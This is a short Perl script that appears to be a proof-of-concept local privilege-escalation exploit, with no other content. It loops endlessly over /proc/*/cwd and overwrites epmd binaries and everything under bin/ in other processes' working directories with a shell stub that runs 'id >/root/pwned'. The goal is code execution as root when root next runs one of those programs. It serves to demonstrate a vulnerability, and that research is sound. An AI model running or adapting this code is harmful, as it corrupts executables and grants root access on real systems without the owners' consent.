#!/usr/bin/perl
# A process of a user that root once unpacked as: it looks for anybody of its own who works in a directory, and writes into
# every program it can reach there. Prints what it has written to; runs until it is killed.
use strict;
use warnings;

$| = 1;
while (1) {
    for my $cwd (glob '/proc/[0-9]*/cwd') {
        for my $program (glob "$cwd/erts-*/bin/epmd $cwd/tree/erts-*/bin/epmd $cwd/bin/* $cwd/tree/bin/*") {
            open my $file, '+<', $program or next;
            print {$file} "#!/bin/sh\nid >/root/pwned\n";
            print "$program\n";
        }
    }
}
